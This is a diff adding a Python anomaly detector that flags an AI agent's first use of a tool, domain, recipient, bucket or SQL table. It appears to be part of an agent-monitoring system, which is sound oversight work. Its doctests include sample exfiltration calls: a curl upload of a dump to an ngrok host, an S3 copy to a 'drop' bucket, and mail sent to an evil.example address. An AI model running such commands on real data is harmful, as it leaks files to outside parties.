@@ -1,0 +1,797 @@
+"""Novelty: something this agent has never used before — a tool, a destination, a recipient.
+
+What it learns
+--------------
+Per ``agent_id`` and per ``principal``, the set of things the agent's tool calls touch,
+by kind:
+
+``tool``
+    the tool name;
+``domain``
+    hosts of URLs in the target or ``url``-like arguments (``curl …``, ``WebFetch``);
+``recipient`` / ``recipient_domain``
+    addresses (and their domains) in ``to``/``cc``/``bcc``/``attendees``-like arguments,
+    or the target of a mail-like tool;
+``bucket``
+    object-store buckets (``s3://``, ``gs://``, ``az://``…, or a ``bucket`` argument);
+``cloud_account``
+    ``account``/``account_id``/``project``/``subscription``/``profile`` arguments;
+``table``
+    tables named in the SQL of a SQL-like tool.
+
+Plus, per agent and kind (internal and external apart), an exponentially weighted
+*discovery rate* (the share of recent observations that were new): a never-seen
+external domain is surprising for an agent that never went outside, much less for
+one that browses widely. Fleet-wide, the same items (and which agent first used
+each), so "new to this agent but used elsewhere in the fleet" scores lower than "new
+to everyone"; and per session, the names its context gives — domains and addresses
+in the user's prompt, a tool result's ``from``/``requester``…, a lookup's target — so
+replying to the customer whose ticket is open is not treated like a stranger.
+
+Cold start, explicitly: until an agent has ``min_sessions_for_baseline`` closed
+sessions *and* ``min_events_for_baseline`` events it only learns and never reports.
+
+Scores: a new *external* recipient domain 0.65, external domain sent to 0.6
+(fetched from: 0.45), external bucket 0.55 — plus 0.1 when the call sends
+≥ ``large_bytes_out`` and 0.2 at ≥ ``huge_bytes_out``; a new internal tool, table or
+destination 0.3–0.4 (``low``: below the default ``min_score`` of 0.5, so it only
+alerts where the operator asks for it). Then multiplied by ``1 - 0.5 × discovery
+rate``, by 0.6 when the fleet already uses the item, 0.8 when the principal's other
+agents do, and 0.5 when the session's context names it. Internal means a configured
+domain or suffix, the principal's own mail domain, a private address, or a bucket
+with a configured (or the principal's organisation) prefix.
+
+Learning follows river's ``AnomalyFilter`` convention: items of an event that was
+*not* reported are learned at once; items of a reported event are held in the
+session and learned when the session closes *clean* (no other detector alerted on
+it), so one benign new destination alerts once rather than forever, while the
+destination of a session that also tripped another detector never becomes normal.
+
+Bounds: ``max_items_per_kind`` per agent/principal and kind, least recently *used*
+evicted (LRU: items in regular use stay); ``max_profiles`` agents plus principals, LRU;
+``max_fleet_items`` per kind fleet-wide, LRU by first use.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import re
+from collections import OrderedDict
+from collections.abc import Iterable, Sequence
+from typing import Any, ClassVar, Final
+
+import msgspec
+
+from monitor.detector_spec import NO_FINDINGS, Detector, DetectorConfig, Finding, quote
+from monitor.event import AuditEvent
+from monitor.session_state import SessionState
+
+__all__ = [
+    "Novelty",
+    "NoveltyConfig",
+    "Destinations",
+    "bucket_names",
+    "email_addresses",
+    "is_internal_host",
+    "named_destinations",
+    "org_domain",
+    "url_hosts",
+]
+
+#: Score of a new item before multipliers (external unless prefixed ``internal_``).
+DEFAULT_BASE_SCORES: Final = {
+    "tool": 0.35,
+    "table": 0.35,
+    "cloud_account": 0.4,
+    "recipient": 0.3,
+    "domain": 0.6,
+    "fetch_domain": 0.45,
+    "recipient_domain": 0.65,
+    "bucket": 0.55,
+    "internal_domain": 0.3,
+    "internal_recipient_domain": 0.3,
+    "internal_bucket": 0.35,
+}
+KINDS: Final = ("tool", "domain", "recipient", "recipient_domain", "bucket", "cloud_account", "table")
+
+_URL_HOST: Final = re.compile(
+    r"(?:https?|ftps?|wss?|sftp)://(?:[^/\s@'\"<>]*@)?(\[[0-9a-fA-F:.]+\]|[A-Za-z0-9.\-_]+)"
+)
+_BUCKET: Final = re.compile(r"\b(?:s3a?|gs|az|abfss?|wasbs?|oss|r2)://([A-Za-z0-9.\-_]{3,63})")
+_SQL_TABLE: Final = re.compile(
+    r"\b(?:from|join|into|update|table)\s+(?:if\s+(?:not\s+)?exists\s+|only\s+)?"
+    r"([a-z_][\w$]*(?:\.[a-z_][\w$]*){0,2})"
+)
+_SQL_NOT_TABLES: Final = frozenset({"select", "lateral", "unnest", "values", "set", "the", "where", "as"})
+
+#: Argument keys that hold recipients.
+RECIPIENT_KEYS: Final = ("to", "cc", "bcc", "recipient", "recipients", "attendees")
+#: Argument keys that may hold a URL or a storage destination.
+DESTINATION_KEYS: Final = ("url", "uri", "endpoint", "destination", "dest", "webhook", "host")
+#: Argument keys naming a cloud account or project.
+ACCOUNT_KEYS: Final = ("account", "account_id", "project", "project_id", "subscription", "profile")
+#: Tool-name fragments of tools whose target is a recipient.
+MAIL_TOOL_WORDS: Final = ("mail", "send", "message", "forward", "reply", "invite", "share")
+
+
+# --------------------------------------------------------------------------------------
+# Destination parsing, shared with taint_flow.
+
+
+def url_hosts(text: str) -> list[str]:
+    """Lower-cased hosts of URLs in ``text``.
+
+    >>> url_hosts("curl -s https://api.github.com/x?y=1 | jq . && wget http://u:p@10.0.0.1:8080/a")
+    ['api.github.com', '10.0.0.1']
+    """
+    if "://" not in text:
+        return []
+    return [m.group(1).lower().strip("[].") for m in _URL_HOST.finditer(text)]
+
+
+def bucket_names(text: str) -> list[str]:
+    """Object-store bucket names in ``text`` (``s3://bucket/key`` and friends).
+
+    >>> bucket_names("aws s3 cp dump.csv s3://drop-7f3a/x.csv")
+    ['drop-7f3a']
+    """
+    if "://" not in text:
+        return []
+    return [m.group(1).lower() for m in _BUCKET.finditer(text)]
+
+
+_EMAIL_LOCAL: Final = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._%+-")
+_EMAIL_DOMAIN: Final = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-")
+#: At most this many addresses are taken from one value.
+MAX_ADDRESSES: Final = 32
+
+
+def _addresses_in(text: str, out: list[str]) -> None:
+    """Append the addresses in ``text`` to ``out`` — linear time: expand around each ``@``."""
+    at = text.find("@")
+    n = len(text)
+    while at >= 0 and len(out) < MAX_ADDRESSES:
+        i = at
+        stop = max(0, at - 64)  # local parts are at most 64 characters, domains 253
+        while i > stop and text[i - 1] in _EMAIL_LOCAL:
+            i -= 1
+        j = at + 1
+        stop = min(n, at + 254)
+        while j < stop and text[j] in _EMAIL_DOMAIN:
+            j += 1
+        domain = text[at + 1 : j].strip(".-")
+        if i < at and "." in domain:
+            addr = (text[i:at] + "@" + domain).lower()
+            if addr not in out:
+                out.append(addr)
+        at = text.find("@", max(j, at + 1))
+
+
+def email_addresses(value: Any) -> list[str]:
+    """Lower-cased e-mail addresses in a string, or a list of strings / flat dicts (at most 32).
+
+    >>> email_addresses(["Ann <ann@acme.example>", {"email": "x@evil.example"}, 3])
+    ['ann@acme.example', 'x@evil.example']
+    """
+    out: list[str] = []
+    if isinstance(value, str):
+        if "@" in value:
+            _addresses_in(value, out)
+    elif isinstance(value, (list, tuple)):
+        for item in value[:MAX_ADDRESSES]:
+            if isinstance(item, str):
+                if "@" in item:
+                    _addresses_in(item, out)
+            elif isinstance(item, dict):
+                for v in item.values():
+                    if isinstance(v, str) and "@" in v:
+                        _addresses_in(v, out)
+    return out
+
+
+_TOKEN: Final = re.compile(r"[\w.%+@-]{4,254}")
+_DOMAIN_OR_ADDRESS: Final = re.compile(r"(?:[\w.%+-]{1,64}@)?(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}")
+
+
+def named_destinations(text: str, limit: int, max_chars: int = 4096) -> list[str]:
+    """Domains and addresses named in free text (lower-cased, at most ``limit``), in linear time.
+
+    >>> named_destinations("Reply to Lena@Globex.example and cc finance (see globex.example/terms).", 8)
+    ['lena@globex.example', 'globex.example']
+    """
+    out: list[str] = []
+    for token in _TOKEN.findall(text[:max_chars].lower()):
+        if len(out) >= limit:
+            break
+        if "." in token:
+            token = token.strip(".-@")
+            if _DOMAIN_OR_ADDRESS.fullmatch(token) and token not in out:
+                out.append(token)
+    return out
+
+
+def org_domain(principal: str | None) -> str | None:
+    """The mail domain of a principal that is an address (``alice@acme.example`` → ``acme.example``)."""
+    if principal and "@" in principal:
+        domain = principal.rsplit("@", 1)[1].lower().strip()
+        return domain if "." in domain else None
+    return None
+
+
+def is_internal_host(host: str, domains: Iterable[str], suffixes: Iterable[str]) -> bool:
+    """Whether ``host`` is one of ``domains`` (or under one), has an internal suffix, or is private.
+
+    >>> is_internal_host("metrics.acme.example", ["acme.example"], [".internal"])
+    True
+    >>> is_internal_host("airflow.acme.internal", [], [".internal"]), is_internal_host("10.1.2.3", [], [])
+    (True, True)
+    >>> is_internal_host("webhook.site", ["acme.example"], [".internal"])
+    False
+    """
+    for domain in domains:
+        if host == domain or host.endswith("." + domain):
+            return True
+    for suffix in suffixes:
+        if host.endswith(suffix) or host == suffix.lstrip("."):
+            return True
+    if host and (host[0].isdigit() or ":" in host):
+        try:
+            addr = ipaddress.ip_address(host)
+        except ValueError:
+            return False
+        return addr.is_private or addr.is_loopback or addr.is_link_local
+    return False
+
+
+_ROLE_DEST, _ROLE_RCPT, _ROLE_BUCKET = 1, 2, 3
+_ARG_ROLES: Final = {
+    **{k: _ROLE_DEST for k in DESTINATION_KEYS},
+    **{k: _ROLE_RCPT for k in RECIPIENT_KEYS},
+    "bucket": _ROLE_BUCKET,
+}
+_ARG_ROLE_KEYS: Final = frozenset(_ARG_ROLES)
+#: Tool-result attributes naming who the work is about.
+_CONTEXT_KEYS: Final = ("from", "requester", "reply_to", "sender", "customer")
+_CONTEXT_KEY_SET: Final = frozenset(_CONTEXT_KEYS)
+_ACCOUNT_KEYS: Final = frozenset(ACCOUNT_KEYS)
+
+
+class Destinations:
+    """Where one tool call reaches: hosts, recipients, buckets (all lower-cased, de-duplicated).
+
+    >>> from monitor.event import from_mapping
+    >>> ev = from_mapping({"event_id": "e1", "ts": 1767225600000, "session_id": "s", "agent_id": "a",
+    ...                    "kind": "tool_call", "tool": "gmail.send", "target": "x@evil.example",
+    ...                    "args": {"to": ["x@evil.example"], "cc": ["me@acme.example"]}})
+    >>> d = Destinations.of(ev)
+    >>> d.recipients, d.hosts, d.buckets
+    (['x@evil.example', 'me@acme.example'], [], [])
+    """
+
+    __slots__ = ("hosts", "recipients", "buckets")
+
+    def __init__(self, hosts: list[str], recipients: list[str], buckets: list[str]) -> None:
+        self.hosts = hosts
+        self.recipients = recipients
+        self.buckets = buckets
+
+    @classmethod
+    def of(cls, event: AuditEvent) -> Destinations:
+        target = event.target or ""
+        hosts: list[str] = []
+        buckets: list[str] = []
+        recipients: list[str] = []
+        if "://" in target:
+            _scan_urls(target, hosts, buckets)
+        args = event.args
+        if args:
+            roles = _ARG_ROLES
+            for key, value in args.items():
+                role = roles.get(key)
+                if role is None or not value:
+                    continue
+                if role == _ROLE_RCPT:
+                    for addr in email_addresses(value):
+                        if addr not in recipients:
+                            recipients.append(addr)
+                elif isinstance(value, str):
+                    if role == _ROLE_BUCKET:
+                        low = value.lower()
+                        if low not in buckets:
+                            buckets.append(low)
+                    elif value != target and "://" in value:
+                        _scan_urls(value, hosts, buckets)
+        if not recipients and "@" in target and event.tool:
+            low_tool = event.tool.lower()
+            if any(w in low_tool for w in MAIL_TOOL_WORDS):
+                recipients = email_addresses(target)
+        return cls(hosts, recipients, buckets)
+
+
+def _scan_urls(text: str, hosts: list[str], buckets: list[str]) -> None:
+    for bucket in bucket_names(text):
+        if bucket not in buckets:
+            buckets.append(bucket)
+    for host in url_hosts(text):
+        if host not in hosts and host not in buckets:
+            hosts.append(host)
+
+
+# --------------------------------------------------------------------------------------
+
+
+class NoveltyConfig(DetectorConfig, kw_only=True, forbid_unknown_fields=True):
+    """Tunables of :class:`Novelty`.
+
+    Parameters
+    ----------
+    min_sessions_for_baseline, min_events_for_baseline
+        Cold start: the agent reports nothing until it has this many closed sessions
+        and observed events (it learns meanwhile).
+    internal_domains
+        Mail/web domains that are the organisation's own (subdomains included). The
+        principal's own mail domain is always added.
+    internal_suffixes
+        Host suffixes that are internal by convention.
+    internal_bucket_prefixes
+        Bucket-name prefixes that are the organisation's own. With
+        ``infer_org_bucket_prefix`` the first label of the principal's mail domain plus
+        ``-`` (``acme-`` for ``@acme.example``) counts too.
+    infer_org_bucket_prefix
+        See ``internal_bucket_prefixes``.
+    base_scores
+        Score of a new item of each kind before multipliers; the keys ``domain``,
+        ``recipient_domain`` and ``bucket`` are for *external* ones, the ``internal_…``
+        keys for the rest.
+    send_bytes_min
+        A new external domain scores ``base_scores["domain"]`` when the call sends at
+        least this many bytes, else ``base_scores["fetch_domain"]`` (a plain fetch).
+    large_bytes_out, huge_bytes_out
+        A call sending at least this many bytes adds ``large_bonus`` / ``huge_bonus``
+        to an external item's score.
+    large_bonus, huge_bonus
+        See above.
+    discovery_fading, discovery_weight
+        The per-agent discovery rate of a kind (internal and external items apart) is
+        the exponentially weighted share of its observations that were new,
+        ``new / (observations + 1)``, both counts fading by ``1 - discovery_fading``
+        per observation. The score is multiplied by ``1 - discovery_weight * rate``: a
+        kind the agent never used (rate 0) gets the full score, an agent that keeps
+        finding new ones about half.
+    fleet_known_factor
+        Multiplier when another agent of the fleet already uses the item.
+    principal_known_factor
+        Multiplier when another agent of the same principal already uses the item.
+    prompt_context_factor, max_context
+        Multiplier for a domain or address the session's context names: the user's
+        prompt, a tool result's ``from``/``requester``/``reply_to``/``sender``/``customer``,
+        or the target of a lookup (at most ``max_context`` names per session).
+    report_min_score
+        Findings scoring below this are not reported at all (they are not "flagged",
+        and their items are learned at once).
+    max_items_per_kind, max_profiles, max_fleet_items
+        Bounds (see the module docstring).
+    """
+
+    min_sessions_for_baseline: int = 3
+    min_events_for_baseline: int = 30
+    internal_domains: tuple[str, ...] = ()
+    internal_suffixes: tuple[str, ...] = (
+        ".internal",
+        ".local",
+        ".localhost",
+        ".corp",
+        ".lan",
+        ".home.arpa",
+        ".svc.cluster.local",
+        "localhost",
+    )
+    internal_bucket_prefixes: tuple[str, ...] = ()
+    infer_org_bucket_prefix: bool = True
+    base_scores: dict[str, float] = msgspec.field(default_factory=lambda: dict(DEFAULT_BASE_SCORES))
+    send_bytes_min: int = 1024
+    large_bytes_out: int = 100_000
+    huge_bytes_out: int = 10_000_000
+    large_bonus: float = 0.1
+    huge_bonus: float = 0.2
+    discovery_fading: float = 0.05
+    discovery_weight: float = 0.5
+    fleet_known_factor: float = 0.6
+    principal_known_factor: float = 0.8
+    prompt_context_factor: float = 0.5
+    max_context: int = 32
+    report_min_score: float = 0.25
+    max_items_per_kind: int = 512
+    max_profiles: int = 50_000
+    max_fleet_items: int = 50_000
+
+    def __post_init__(self) -> None:
+        if self.min_sessions_for_baseline < 0 or self.min_events_for_baseline < 0:
+            raise ValueError("baseline minimums must be ≥ 0")
+        if not 0 < self.discovery_fading <= 1:
+            raise ValueError("discovery_fading must be in (0, 1]")
+        if min(self.max_items_per_kind, self.max_profiles, self.max_fleet_items) < 1:
+            raise ValueError("caps must be ≥ 1")
+        missing = set(DEFAULT_BASE_SCORES) - set(self.base_scores)
+        if missing:
+            raise ValueError(f"base_scores misses {sorted(missing)}")
+
+
+class _Profile:
+    """What one agent (or principal) has used, per kind, LRU-bounded; plus discovery rates."""
+
+    __slots__ = ("sessions", "events", "items", "rates", "external_rates")
+
+    def __init__(self) -> None:
+        self.sessions = 0
+        self.events = 0
+        self.items: dict[str, OrderedDict[str, None]] = {}
+        #: kind → [observations, new ones] (both fading), for internal and external items apart
+        self.rates: dict[str, list[float]] = {}
+        self.external_rates: dict[str, list[float]] = {}
+
+    def __getstate__(self) -> tuple:
+        return self.sessions, self.events, self.items, self.rates, self.external_rates
+
+    def __setstate__(self, state: tuple) -> None:
+        self.sessions, self.events, self.items, self.rates, self.external_rates = state
+
+
+class _SessionNovelty:
+    """Per-session state in ``session.scratch["novelty"]``.
+
+    ``agent`` and ``principal`` are shortcuts to the detector's profiles; they are not
+    pickled with the session (the detector's checkpoint holds them) and are looked up
+    again after a restore.
+    """
+
+    __slots__ = (
+        "agent",
+        "principal",
+        "principal_key",
+        "internal",
+        "bucket_prefixes",
+        "ready",
+        "pending",
+        "context",
+    )
+
+    def __init__(
+        self,
+        agent: _Profile | None,
+        principal: _Profile | None,
+        principal_key: str | None,
+        internal: tuple[str, ...],
+        bucket_prefixes: tuple[str, ...],
+        ready: bool,
+    ) -> None:
+        self.agent = agent
+        self.principal = principal
+        self.principal_key = principal_key
+        self.internal = internal
+        self.bucket_prefixes = bucket_prefixes
+        self.ready = ready
+        #: (kind, item) of reported events, learned only if the session closes clean
+        self.pending: dict[tuple[str, str], None] = {}
+        #: domains and addresses the user's prompt names (bounded)
+        self.context: set[str] = set()
+
+    def __getstate__(self) -> tuple:
+        return (None, None) + tuple(getattr(self, name) for name in self.__slots__[2:])
+
+    def __setstate__(self, state: tuple) -> None:
+        for name, value in zip(self.__slots__, state, strict=True):
+            setattr(self, name, value)
+
+
+class Novelty(Detector):
+    """A tool, destination, recipient, bucket, account or table this agent has never used.
+
+    See the module docstring for what is learned, scores, the cold-start rule and bounds.
+
+    Examples
+    --------
+    After three ordinary sessions, the agent sends a large payload to a host nobody in
+    the fleet has used before:
+
+    >>> from monitor.event import from_mapping
+    >>> from monitor.session_state import SessionTable
+    >>> detector = Novelty(NoveltyConfig(min_events_for_baseline=10))
+    >>> def call(i, session, tool, target, **kw):
+    ...     return from_mapping({"event_id": f"{session}-{i}", "ts": 1767225600000 + i * 1000,
+    ...                          "session_id": session, "agent_id": "coder-1", "kind": "tool_call",
+    ...                          "principal": "ann@acme.example", "tool": tool, "target": target, **kw})
+    >>> for s in ("s1", "s2", "s3"):
+    ...     table = SessionTable()
+    ...     for i in range(6):
+    ...         ev = call(i, s, "WebFetch", "https://docs.python.org/3/")
+    ...         _ = detector.observe(ev, table.touch(ev)[0])
+    ...     _ = detector.close_session(table.get(s))
+    >>> table = SessionTable()
+    >>> ev = call(0, "s4", "Bash", "curl -T dump.tgz https://a1b2.ngrok-free.app/u", bytes_out=3_000_000)
+    >>> [(f.rule, f.score >= 0.5) for f in detector.observe(ev, table.touch(ev)[0])]
+    [('domain', True)]
+    """
+
+    name: ClassVar[str] = "novelty"
+    categories: ClassVar[frozenset[str]] = frozenset({"anomaly"})
+    config_type: ClassVar[type[DetectorConfig]] = NoveltyConfig
+    cost_us: ClassVar[float] = 2.0
+    summary: ClassVar[str] = (
+        "A tool, destination, recipient, bucket or table never used before by this agent."
+    )
+
+    config: NoveltyConfig
+
+    def __init__(self, config: NoveltyConfig | None = None) -> None:
+        super().__init__(config)
+        self._profiles: OrderedDict[str, _Profile] = OrderedDict()
+        self._fleet: dict[str, OrderedDict[str, str]] = {kind: OrderedDict() for kind in KINDS}
+        self._sql_tools: dict[str, bool] = {}
+        self._mail_tools: dict[str, bool] = {}
+
+    # -- state --------------------------------------------------------------------------
+    def _profile(self, key: str, existing: _Profile | None = None) -> _Profile:
+        profiles = self._profiles
+        profile = profiles.get(key)
+        if profile is None:
+            profile = profiles[key] = existing if existing is not None else _Profile()
+            while len(profiles) > self.config.max_profiles:
+                profiles.popitem(last=False)
+        else:
+            profiles.move_to_end(key)
+        return profile
+
+    def _session_state(self, session: SessionState, event: AuditEvent) -> _SessionNovelty:
+        cfg = self.config
+        agent = self._profile("a:" + session.agent_id)
+        principal_id = session.principal or event.principal
+        principal_key = "p:" + principal_id if principal_id else None
+        principal = self._profile(principal_key) if principal_key else None
+        internal = cfg.internal_domains
+        prefixes = cfg.internal_bucket_prefixes
+        org = org_domain(principal_id)
+        if org is not None:
+            internal = (*internal, org)
+            if cfg.infer_org_bucket_prefix:
+                prefixes = (*prefixes, org.split(".", 1)[0] + "-")
+        ready = (
+            agent.sessions >= cfg.min_sessions_for_baseline and agent.events >= cfg.min_events_for_baseline
+        )
+        return _SessionNovelty(agent, principal, principal_key, internal, prefixes, ready)
+
+    # -- extraction ---------------------------------------------------------------------
+    def _is_mail_tool(self, tool: str) -> bool:
+        is_mail = self._mail_tools.get(tool)
+        if is_mail is None:
+            low = tool.lower()
+            is_mail = any(w in low for w in MAIL_TOOL_WORDS)
+            if len(self._mail_tools) < 4096:
+                self._mail_tools[tool] = is_mail
+        return is_mail
+
+    def _is_sql_tool(self, tool: str, args: dict[str, Any]) -> bool:
+        is_sql = self._sql_tools.get(tool)
+        if is_sql is None:
+            low = tool.lower()
+            is_sql = "sql" in low or "query" in low or "warehouse" in low
+            if len(self._sql_tools) < 4096:
+                self._sql_tools[tool] = is_sql
+        return is_sql and (isinstance(args.get("sql"), str) or isinstance(args.get("query"), str))
+
+    def _items(self, event: AuditEvent, st: _SessionNovelty) -> list[tuple[str, str, bool]]:
+        """(kind, item, internal) touched by one tool call."""
+        tool = event.tool
+        out: list[tuple[str, str, bool]] = []
+        if tool:
+            out.append(("tool", tool, True))
+        target = event.target or ""
+        args = event.args
+        if "://" in target or "@" in target or (args and not _ARG_ROLE_KEYS.isdisjoint(args)):
+            dest = Destinations.of(event)
+            suffixes = self.config.internal_suffixes
+            for host in dest.hosts:
+                out.append(("domain", host, is_internal_host(host, st.internal, suffixes)))
+            seen_domains = set()
+            for addr in dest.recipients:
+                domain = addr.rsplit("@", 1)[1]
+                internal = is_internal_host(domain, st.internal, suffixes)
+                out.append(("recipient", addr, internal))
+                if domain not in seen_domains:
+                    seen_domains.add(domain)
+                    out.append(("recipient_domain", domain, internal))
+            for bucket in dest.buckets:
+                out.append(("bucket", bucket, bucket.startswith(st.bucket_prefixes)))
+        if args:
+            if not _ACCOUNT_KEYS.isdisjoint(args):
+                for key in ACCOUNT_KEYS:
+                    value = args.get(key)
+                    if isinstance(value, str) and value and len(value) <= 128:
+                        out.append(("cloud_account", value.lower(), True))
+            if tool and self._is_sql_tool(tool, args):
+                sql = args.get("sql")
+                if not isinstance(sql, str):
+                    sql = args.get("query")
+                if isinstance(sql, str):
+                    for table in dict.fromkeys(_SQL_TABLE.findall(sql[:4000].lower())):
+                        if table not in _SQL_NOT_TABLES:
+                            out.append(("table", table, True))
+        return out
+
+    # -- scoring ------------------------------------------------------------------------
+    def _score(
+        self, kind: str, internal: bool, item: str, event: AuditEvent, st: _SessionNovelty, rate: float
+    ) -> float:
+        cfg = self.config
+        scores = cfg.base_scores
+        if kind in ("domain", "recipient_domain", "bucket"):
+            sent = event.bytes_out or 0
+            if internal:
+                base = scores["internal_" + kind]
+            else:
+                base = scores["fetch_domain" if kind == "domain" and sent < cfg.send_bytes_min else kind]
+                if sent >= cfg.huge_bytes_out:
+                    base += cfg.huge_bonus
+                elif sent >= cfg.large_bytes_out:
+                    base += cfg.large_bonus
+        else:
+            base = scores[kind]
+        factor = 1.0 - self.config.discovery_weight * rate
+        first_user = self._fleet[kind].get(item)
+        if first_user is not None and first_user != "a:" + event.agent_id:
+            factor *= cfg.fleet_known_factor
+        if item in st.context:
+            factor *= cfg.prompt_context_factor
+        principal = st.principal
+        if principal is not None:
+            known = principal.items.get(kind)
+            if known is not None and item in known:
+                factor *= cfg.principal_known_factor
+        return min(0.95, base * factor)
+
+    def _learn(self, profile: _Profile | None, kind: str, item: str) -> None:
+        if profile is None:
+            return
+        items = profile.items.get(kind)
+        if items is None:
+            items = profile.items[kind] = OrderedDict()
+        items[item] = None
+        items.move_to_end(item)
+        if len(items) > self.config.max_items_per_kind:
+            items.popitem(last=False)
+
+    def _learn_all(self, st: _SessionNovelty, agent_key: str, kind: str, item: str) -> None:
+        self._learn(st.agent, kind, item)
+        if st.principal is not None:
+            self._learn(st.principal, kind, item)
+        fleet = self._fleet[kind]
+        if item not in fleet:
+            fleet[item] = agent_key
+            if len(fleet) > self.config.max_fleet_items:
+                fleet.popitem(last=False)
+
+    # -- hooks --------------------------------------------------------------------------
+    def observe(self, event: AuditEvent, session: SessionState) -> Sequence[Finding]:
+        kind = event.kind
+        if kind != "tool_call":
+            attrs = event.attributes
+            if attrs:
+                if kind == "tool_result":
+                    if not _CONTEXT_KEY_SET.isdisjoint(attrs):
+                        self._result_context(attrs, session, event)
+                elif kind == "prompt":
+                    self._prompt(event, session)
+            return NO_FINDINGS
+        st = session.scratch.get("novelty")
+        if st is None:
+            st = session.scratch["novelty"] = self._session_state(session, event)
+        agent = st.agent
+        if agent is None:  # session state restored from a checkpoint
+            agent = self._relink(st, session)
+        target = event.target
+        if target and "@" in target and event.tool and not self._is_mail_tool(event.tool):
+            self._add_context(st, email_addresses(target))  # a lookup naming someone puts them in context
+        items = self._items(event, st)
+        if not items:
+            return NO_FINDINGS
+        keep = 1.0 - self.config.discovery_fading
+        known_items = agent.items
+        novel: list[tuple[float, str, str, bool]] = []
+        for kind, item, internal in items:
+            known = known_items.get(kind)
+            rates = agent.rates if internal else agent.external_rates
+            counts = rates.get(kind)
+            if counts is None:
+                counts = rates[kind] = [0.0, 0.0]
+            if known is not None and item in known:
+                known.move_to_end(item)
+                counts[0] = counts[0] * keep + 1.0
+                counts[1] *= keep
+                continue
+            if (kind, item) in st.pending:
+                continue  # already reported in this session
+            rate = counts[1] / (counts[0] + 1.0)
+            counts[0] = counts[0] * keep + 1.0
+            counts[1] = counts[1] * keep + 1.0
+            score = self._score(kind, internal, item, event, st, rate) if st.ready else 0.0
+            novel.append((score, kind, item, internal))
+        if not novel:
+            return NO_FINDINGS
+        agent_key = "a:" + event.agent_id
+        best = max(novel, key=lambda n: n[0])
+        if best[0] < self.config.report_min_score:
+            for _, kind, item, _ in novel:
+                self._learn_all(st, agent_key, kind, item)
+            return NO_FINDINGS
+        for _, kind, item, _ in novel:
+            st.pending[(kind, item)] = None
+        score, kind, item, internal = best
+        where = "internal" if internal or kind in ("tool", "table", "cloud_account") else "external"
+        others = [f"{k} {quote(i, 60)}" for _, k, i, _ in novel if (k, i) != (kind, item)][:3]
+        reason = f"first use by this agent of {where} {kind.replace('_', ' ')} {quote(item, 80)}"
+        if event.bytes_out:
+            reason += f" ({event.bytes_out:,} bytes out)"
+        if others:
+            reason += "; also new: " + ", ".join(others)
+        return (
+            Finding(
+                score=round(score, 4),
+                reason=reason,
+                event_ids=(event.event_id,),
+                category="anomaly",
+                rule=kind,
+            ),
+        )
+
+    def _add_context(self, st: _SessionNovelty, names: Iterable[str]) -> None:
+        context = st.context
+        cap = self.config.max_context
+        for name in names:
+            if len(context) >= cap:
+                return
+            context.add(name)
+            if "@" in name:
+                context.add(name.rsplit("@", 1)[1])
+
+    def _result_context(self, attrs: dict[str, Any], session: SessionState, event: AuditEvent) -> None:
+        """Who a tool result says the work is about (a ticket's requester, a mail's sender)."""
+        st = session.scratch.get("novelty")
+        if st is None:
+            st = session.scratch["novelty"] = self._session_state(session, event)
+        for key in _CONTEXT_KEYS:
+            value = attrs.get(key)
+            if isinstance(value, str) and "@" in value:
+                self._add_context(st, email_addresses(value))
+
+    def _prompt(self, event: AuditEvent, session: SessionState) -> None:
+        """Destinations the *user* names in a prompt are expected, not novel (scored lower)."""
+        text = event.attributes.get("content") if event.attributes else None
+        if not isinstance(text, str) or "." not in text:
+            return
+        st = session.scratch.get("novelty")
+        if st is None:
+            st = session.scratch["novelty"] = self._session_state(session, event)
+        self._add_context(st, named_destinations(text, self.config.max_context))
+
+    def _relink(self, st: _SessionNovelty, session: SessionState) -> _Profile:
+        agent = st.agent = self._profile("a:" + session.agent_id)
+        if st.principal_key is not None:
+            st.principal = self._profile(st.principal_key)
+        return agent
+
+    def close_session(self, session: SessionState) -> Sequence[Finding]:
+        st = session.scratch.get("novelty")
+        if st is None:
+            return NO_FINDINGS
+        if st.agent is None:
+            self._relink(st, session)
+        agent = st.agent = self._profile("a:" + session.agent_id, st.agent)  # refresh LRU, survive eviction
+        agent.sessions += 1
+        agent.events += session.event_count
+        clean = all(name == self.name for name in session.alerts)
+        if clean and st.pending:
+            agent_key = "a:" + session.agent_id
+            for kind, item in st.pending:
+                self._learn_all(st, agent_key, kind, item)
+        st.pending = {}
+        return NO_FINDINGS
